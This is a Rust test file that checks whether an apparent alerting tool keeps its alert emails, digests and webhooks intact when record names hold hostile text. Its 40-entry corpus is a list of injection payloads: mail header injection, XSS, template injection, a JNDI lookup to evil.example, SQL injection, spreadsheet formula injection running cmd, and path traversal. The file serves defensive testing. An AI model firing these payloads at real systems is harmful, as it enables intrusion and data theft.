//! Whatever stands in a record: what is made of it has the same headers, the same tags and the same
//! members as of any other record, and holds nothing that runs, hides or leads elsewhere.

use std::collections::BTreeSet;

use mail_parser::MessageParser;
use postrider::demo::inbox::Mail;
use postrider::demo::org::{Org, Value};
use proptest::arbitrary::any;
use proptest::strategy::{Strategy, ValueTree};
use proptest::test_runner::TestRunner;

use crate::harness::records::{channel, ended, session};
use crate::harness::{HEAD, Letter, TRAFFIC, TestPostrider};

const RULES: &str = r#"
[rules.waiting]
title = "A customer is waiting"
type = "sessions"
where = "session.Status = 'Waiting'"
group_by = ["channel as Channel"]
value = "max(seconds(session.StartTime, as_of()))"
every = "5 min"
levels = [["warning", "> 60"]]

[[routes]]
to = ["ops-mail", "ops-hook"]

[digests.morning]
reports = ["traffic"]
schedule = "0 8 * * *"
to = ["ana@example.com"]
attach = ["csv", "xlsx", "json"]
"#;

/// A channel's name that nobody could mind.
const PLAIN: &str = "Web";

/// Names that mean something to somebody: to mail, HTML, templates, SQL, spreadsheets, terminals.
const CORPUS: [&str; 40] = [
    "Evil\r\nBcc: victim@example.com",
    "Evil\r\n\r\n<html>another body",
    "Evil\nX-Forged: 1",
    "Evil\rX-Forged: 1",
    "\r\n.\r\nMAIL FROM:<x@example.com>",
    "\n.\n",
    "=?utf-8?Q?Bcc:_victim=40example.com?=",
    "=?utf-8?B?DQpCY2M6IHg=?=",
    "a\0b",
    "\u{1b}[31mred\u{1b}[0m\u{7}",
    "\u{202e}txt.exe\u{2066}",
    "\u{2028}line\u{2029}paragraph\u{85}next",
    "\u{feff}\u{200b}hidden\u{200d}",
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" style=\"background:url(//evil.example/x)",
    "</td></tr></table><h1>forged</h1>",
    "<!--",
    "--><p>",
    "<![CDATA[<script>]]>",
    "<style>*{display:none}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "&lt;script&gt;&#60;script&#62;",
    "{{ 7 * 7 }}",
    "{% for x in range(10000000) %}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "${jndi:ldap://evil.example/x}",
    "%0d%0aBcc:%20victim@example.com",
    "' or 1=1 --",
    "\\'; drop table channel; --",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<!channel> <@U123> *bold*",
    "../../etc/passwd",
    "日本語 👩‍👩‍👧‍👧 ümlaut",
    "x\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
];

/// The corpus, and texts that nobody thought of: the same ones each time.
fn names() -> Vec<String> {
    let mut runner = TestRunner::deterministic();
    let made =
        std::iter::repeat_with(|| any::<String>().new_tree(&mut runner).expect("a text").current());
    let made = made.filter(|text| text.chars().any(|symbol| !symbol.is_whitespace()));
    CORPUS.iter().map(|text| (*text).to_owned()).chain(made.take(40)).collect()
}

#[tokio::test]
async fn no_text_of_a_record_changes_what_a_message_is_made_of() {
    let names = names();
    let fill = |org: &Org| {
        for name in std::iter::once(PLAIN).chain(names.iter().map(String::as_str)) {
            let channel = channel(org, name);
            ended(org, &channel, "2026-11-22T12:00:00Z", &[]);
            let waiting = [("Status", Value::Pick("Waiting"))];
            session(org, &channel, "2026-11-23T06:30:00Z", &waiting);
        }
    };
    let config = format!("{HEAD}{TRAFFIC}{RULES}");
    let t = TestPostrider::start(&config, "2026-11-23T06:50:00Z", fill).await;
    t.beat().await;
    t.advance_to("2026-11-23T07:02:00Z").await;

    let mails = t.mails_to("ops@example.com");
    assert_eq!(mails.len(), names.len() + 1, "each is told by itself");
    let plain = mails.iter().find(|mail| Letter::read(mail).subject.contains(PLAIN));
    let plain = Made::of(plain.expect("of a plain name"));
    for mail in &mails {
        let (made, letter) = (Made::of(mail), Letter::read(mail));
        assert_eq!(made.headers, plain.headers, "{}", letter.subject);
        assert_eq!(made.tags, plain.tags, "{}\n{}", letter.subject, letter.html);
        assert_eq!(made.targets, plain.targets, "{}", letter.subject);
        assert_eq!(mail.recipients, ["ops@example.com"]);
        readable(&letter);
    }

    let digests = t.mails_to("ana@example.com");
    let (made, letter) = (Made::of(&digests[0]), Letter::read(&digests[0]));
    assert_eq!(digests.len(), 1);
    readable(&letter);
    for tag in ["script", "svg", "h1\u{0} forged", "img", "iframe", "object", "form"] {
        assert!(!made.tags.iter().any(|found| found.starts_with(tag)), "{tag}: {}", letter.html);
    }
    let elsewhere = made.targets.iter().find(|target| !target.starts_with("https://acme.my."));
    assert_eq!(elsewhere, None);
    assert!(letter.seen().contains("<script>alert(1)</script>"), "it is shown, not run");
    assert!(letter.seen().contains("{{ 7 * 7 }}"), "it is no template");

    let hooks = t.catcher.hooks();
    let of_plain = hooks.iter().find(|hook| hook.json().to_string().contains("\"Web\"")).unwrap();
    let headers = |hook: &postrider::demo::catcher::Hook| {
        hook.headers.iter().map(|(name, _)| name.clone()).collect::<Vec<_>>()
    };
    assert_eq!(hooks.len(), names.len() + 1);
    for hook in &hooks {
        assert_eq!(headers(hook), headers(of_plain));
        assert_eq!(shape(&hook.json()), shape(&of_plain.json()), "{}", hook.json());
    }
    // What a program reads is what was in the record, to the last character.
    let told: BTreeSet<String> = hooks.iter().map(|hook| hook.json().to_string()).collect();
    for name in &names {
        let written = serde_json::Value::from(name.as_str()).to_string();
        assert!(told.iter().any(|text| text.contains(&written)), "{written}");
    }
}

/// What a mail is made of, words aside.
#[derive(Debug, PartialEq)]
struct Made {
    /// Names of headers, in order.
    headers: Vec<String>,
    /// Tags with the names of their attributes, in order.
    tags: Vec<String>,
    /// Where links and pictures lead, without what names a record.
    targets: BTreeSet<String>,
}

impl Made {
    fn of(mail: &Mail) -> Made {
        let parsed = MessageParser::default().parse(&mail.bytes).expect("a mail");
        let headers = parsed.headers().iter().map(|header| header.name().to_owned()).collect();
        let html = Letter::read(mail).html;
        let (mut tags, mut targets) = (Vec::new(), BTreeSet::new());
        for (name, attributes) in elements(&html) {
            let names: Vec<&str> = attributes.iter().map(|(name, _)| name.as_str()).collect();
            tags.push(format!("{name} {}", names.join(" ")));
            let leading = attributes.iter().filter(|(name, _)| name == "href" || name == "src");
            for (_, value) in leading {
                // A record's page differs from record to record by its last part alone.
                let stem = value.rsplit_once('/').map_or(value.as_str(), |(stem, _)| stem);
                targets.insert(stem.to_owned());
            }
        }
        Made { headers, tags, targets }
    }
}

/// The tags of a document with their attributes, as a browser would see them. Comments are tags
/// called `!--`.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let Some(first) = rest.chars().next() else { break };
        if !(first.is_ascii_alphabetic() || matches!(first, '/' | '!' | '?')) {
            continue;
        }
        let end = if rest.starts_with("!--") { rest.find("-->").unwrap_or(rest.len()) } else { 0 };
        let name_end = rest.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(rest.len());
        let name = rest[..name_end.min(rest.len())].to_lowercase();
        rest = &rest[name_end.max(end)..];
        found.push((name, attributes(&mut rest)));
    }
    found
}

/// Reads attributes up to the end of the tag.
fn attributes(rest: &mut &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    loop {
        *rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return found;
        }
        let end = rest.find(|c: char| c.is_whitespace() || "=>".contains(c)).unwrap_or(rest.len());
        let name = rest[..end.max(1)].to_lowercase();
        *rest = &rest[end.max(1)..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let quote = after.chars().next().filter(|c| matches!(c, '"' | '\''));
            let body = if quote.is_some() { &after[1..] } else { after };
            let end = match quote {
                Some(quote) => body.find(quote),
                None => body.find(|c: char| c.is_whitespace() || c == '>'),
            }
            .unwrap_or(body.len());
            value = body[..end].to_owned();
            *rest = &body[end + usize::from(quote.is_some() && end < body.len())..];
        }
        found.push((name, value));
    }
}

/// Nothing that a reader cannot see changes what a reader sees. Text that runs from right to left
/// is set apart from what is around it, and never left open.
#[track_caller]
fn readable(letter: &Letter) {
    for text in [&letter.subject, &letter.text, &letter.html] {
        let odd = text.chars().find(|symbol| {
            let control = symbol.is_control() && !matches!(symbol, '\n' | '\t');
            control || matches!(symbol, '\u{202a}'..='\u{202e}' | '\u{2066}' | '\u{2067}')
        });
        assert_eq!(odd, None, "{}", text.escape_debug());
        let count = |sign| text.chars().filter(|symbol| *symbol == sign).count();
        assert_eq!(count('\u{2068}'), count('\u{2069}'), "{}", text.escape_debug());
    }
    assert!(!letter.subject.contains('\n'), "{}", letter.subject);
}

/// The members of a payload, without their values; lists by what their first entry is.
fn shape(json: &serde_json::Value) -> String {
    match json {
        serde_json::Value::Object(members) => {
            let members: Vec<String> =
                members.iter().map(|(name, value)| format!("{name}:{}", shape(value))).collect();
            format!("{{{}}}", members.join(","))
        }
        serde_json::Value::Array(list) => {
            format!("[{}]", list.first().map_or(String::new(), shape))
        }
        serde_json::Value::String(_) => "text".to_owned(),
        serde_json::Value::Number(_) => "number".to_owned(),
        serde_json::Value::Bool(_) => "bool".to_owned(),
        serde_json::Value::Null => "null".to_owned(),
    }
}
